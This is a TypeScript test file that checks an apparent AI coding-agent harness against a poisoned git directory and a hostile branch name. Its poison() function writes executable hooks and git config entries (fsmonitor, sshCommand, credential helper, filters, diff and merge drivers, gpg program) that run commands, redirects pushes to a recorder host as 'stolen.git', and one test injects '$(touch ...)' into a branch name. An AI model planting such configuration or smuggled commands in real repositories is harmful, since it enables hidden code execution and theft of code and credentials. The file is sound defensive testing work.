import { appendFileSync, chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect } from 'vitest';
import { jailed } from '../support/jailed.ts';
import { fill, inputOf } from '../support/hostile/cases.ts';
import { Scene, shell, type Played } from '../support/hostile/scene.ts';

const hooks = [
  'pre-push',
  'pre-commit',
  'reference-transaction',
  'post-index-change',
  'prepare-commit-msg',
  'commit-msg',
  'post-commit',
  'post-checkout',
  'push-to-checkout',
  'sendemail-validate',
  'pre-auto-gc',
  'fsmonitor-watchman',
];

/** Puts everything into the git directory of the workspace that git would run, each with a marker of its own. */
function poison(scene: Scene): void {
  const { workspace, recorder } = scene;
  const marker = (id: string): string => scene.places(id)['PWNED']!;
  const hook = (file: string, id: string): void => {
    mkdirSync(join(file, '..'), { recursive: true });
    writeFileSync(file, `#!/bin/sh\ntouch ${marker(id)}\n`);
    chmodSync(file, 0o755);
  };
  for (const name of hooks) {
    hook(join(workspace, '.git/hooks', name), 'A042');
    hook(join(workspace, '.evil', name), 'A084');
  }
  hook(join(workspace, '.git/ap'), 'A083');
  appendFileSync(
    join(workspace, '.git/config'),
    [
      '[core]',
      `\tfsmonitor = "touch ${marker('A041')}; false"`,
      `\tsshCommand = "touch ${marker('A041')}"`,
      `\teditor = "touch ${marker('A041')}"`,
      '\thooksPath = .evil',
      `\taskPass = ${join(workspace, '.git/ap')}`,
      `[url "http://${recorder.address}/"]`,
      `\tinsteadOf = ${scene.world.github.serverUrl}/`,
      `\tpushInsteadOf = ${scene.world.github.serverUrl}/`,
      '[http]',
      `\tproxy = http://${recorder.address}`,
      '[remote "origin"]',
      `\tpushurl = http://${recorder.address}/stolen.git`,
      `\tuploadpack = touch ${marker('A041')}`,
      '[filter "x"]',
      `\tclean = touch ${marker('A082')}; cat`,
      `\tsmudge = touch ${marker('A082')}; cat`,
      '\trequired = true',
      '[diff "x"]',
      `\ttextconv = touch ${marker('A082')}; cat`,
      `\tcommand = touch ${marker('A082')}`,
      '[merge "x"]',
      `\tdriver = touch ${marker('A082')}`,
      '[credential]',
      `\thelper = "!touch ${marker('A083')}; cat"`,
      '[gpg]',
      `\tprogram = ${join(workspace, '.git/ap')}`,
      '[commit]',
      '\tgpgSign = true',
      '',
    ].join('\n'),
  );
  mkdirSync(join(workspace, '.git/info'), { recursive: true });
  writeFileSync(join(workspace, '.git/info/attributes'), '* filter=x diff=x merge=x\n');
  writeFileSync(join(workspace, '.gitattributes'), '* filter=x diff=x merge=x\n');
}

describe.each([{ when: 'before the turn' }, { when: 'after the last tool' }])('a git directory that is poisoned $when', ({ when }) => {
  let scene: Scene;
  let played: Played;

  beforeAll(async () => {
    scene = await Scene.create();
    scene.checkOut();
    const before = when === 'before the turn';
    if (before) poison(scene);
    played = await scene.play(
      [
        { id: 'edit', name: 'write_file', args: { path: 'src/new.js', content: 'export const answer = 42;\n' } },
        shell('git', 'git status --short; git diff; git log --oneline', 'thrown'),
      ],
      { ...(!before && { afterTools: () => poison(scene) }) },
    );
  });
  afterAll(() => scene[Symbol.asyncDispose]());

  const marked = (id: string): string[] => scene.markers().filter((marker) => marker.endsWith(id));

  jailed('runs no file system monitor, and the pull request is published as ever', { tags: ['R8', 'A041'] }, async () => {
    expect(marked('A041')).toEqual([]);
    expect(played.run.exitCode).toBe(0);
    expect(await scene.world.repository.git('show', `${played.run.outputs['branch']}:src/new.js`)).toContain('42');
  });

  jailed('runs no hook', { tags: ['R8', 'A042'] }, () => {
    expect(marked('A042')).toEqual([]);
  });

  jailed('cannot send the push, or anything else, to another host', { tags: ['R8', 'A043'] }, () => {
    expect(scene.recorder.heard).toEqual([]);
    expect(scene.world.repository.refs()).toHaveProperty([`refs/heads/${played.run.outputs['branch']}`]);
  });

  jailed('runs no filter, and publishes only what the turn changed', { tags: ['R8', 'A082'] }, async () => {
    expect(marked('A082')).toEqual([]);
    expect(await scene.world.repository.git('diff', '--name-only', 'main', played.run.outputs['branch']!)).not.toMatch(/\.gitattributes/);
  });

  jailed('runs no credential helper and asks no program for a password', { tags: ['R8', 'A083'] }, () => {
    expect(marked('A083')).toEqual([]);
    expect(played.leaks).toEqual([]);
  });

  jailed('runs no hook from a folder that the configuration names', { tags: ['R8', 'A084'] }, () => {
    expect(marked('A084')).toEqual([]);
    expect(scene.markers()).toEqual([]);
  });
});

describe('names from strangers', () => {
  jailed('neither the title nor the model chooses the branch, and no shell reads either', { tags: ['R8', 'A044'] }, async () => {
    await using scene = await Scene.create((places) => ({
      issue: { title: fill(inputOf<string>('A044', 'payload.issue.title'), places) },
    }));
    const { run, results } = await scene.play([
      { id: 'finish', name: 'finish', args: { branch: `fix/$(touch ${scene.places('A044')['PWNED']})` } },
      { id: 'edit', name: 'write_file', args: { path: 'a.txt', content: 'x' } },
    ]);
    expect(results['finish']).toMatch(/^ERROR: Tool not found/);
    expect(run.outputs['branch']).toMatch(/^gadget\/[a-z0-9][a-z0-9-]{0,60}$/);
    expect(scene.world.repository.pulls()).toHaveLength(1);
    expect(scene.markers()).toEqual([]);
  });
});
